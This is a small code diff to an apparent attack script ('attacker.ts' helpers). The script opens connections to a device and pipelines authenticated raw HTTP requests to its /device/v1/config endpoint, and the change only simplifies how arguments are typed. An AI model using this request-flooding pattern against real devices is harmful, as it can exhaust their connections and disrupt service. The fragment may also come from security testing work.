@@ -1,10 +1,7 @@
 import { args, inPlace, open } from './attacker.ts';
 
 /* Each connection holds a poll, and pipelines as many requests behind it as the bytes of a few packets can carry. */
-const { device, credential, connections, pipelined } = args<{
-  readonly connections: number;
-  readonly pipelined: number;
-}>();
+const { device, credential, connections, pipelined } = args();
 const poll = (more: string): string =>
   `GET /device/v1/config HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${credential}\r\n${more}\r\n`;
 const first = await open(device, { reads: true });
